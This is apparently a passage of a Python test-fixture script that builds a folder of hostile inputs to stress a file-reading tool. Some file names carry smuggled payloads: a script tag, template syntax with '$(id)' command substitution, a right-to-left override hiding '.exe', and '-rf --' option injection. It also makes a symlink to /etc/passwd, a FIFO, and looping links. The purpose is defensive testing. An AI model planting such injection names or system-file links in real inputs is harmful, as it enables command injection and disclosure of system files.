    "<script>alert(1)<∕script>.txt": any_way(lambda: TITLE.encode()),
    '换\n行 & "引号" \'.txt': any_way(lambda: TITLE.encode()),
    "{{ page }}{% raw %}[bold]$(id)`id`.txt": any_way(lambda: TITLE.encode()),
    "\u202etxt.exe.txt": any_way(lambda: TITLE.encode()),
    "-rf --.txt": any_way(lambda: TITLE.encode()),
}


def word_bytes(inner: bytes) -> bytes:
    """A Word document's XML with raw bytes in its text."""
    return f"<w:document {W}><w:body><w:p><w:r><w:t>".encode() + inner + b"</w:t></w:r></w:p></w:body></w:document>"


def write_hostile(folder: Path) -> None:
    """All files, and what a file system can do: a pipe, links that lead away or in circles, a file without permission, a broken name."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, hostile in FILES.items():
        (folder / name).write_bytes(hostile.make())
    os.mkfifo(folder / "pipe.docx")
    (folder / "device.docx").symlink_to("/dev/zero")
    (folder / "away.txt").symlink_to("/etc/passwd")
    (folder / "itself.docx").symlink_to("itself.docx")
    (folder / "circle").symlink_to(folder, target_is_directory=True)
    closed = folder / "closed.txt"
    closed.write_bytes(TITLE.encode())
    closed.chmod(0)
    (folder / os.fsdecode("坏名".encode("gb18030") + b".txt")).write_bytes(TITLE.encode())


UNSEEN = ("pipe.docx", "device.docx", "away.txt", "itself.docx")  # never read, never reported: they are no files of the folder


if __name__ == "__main__":
    write_hostile(Path(sys.argv[1]))
    print(f"{len(FILES)} files, formats drawn from {len(FORMATS)}")
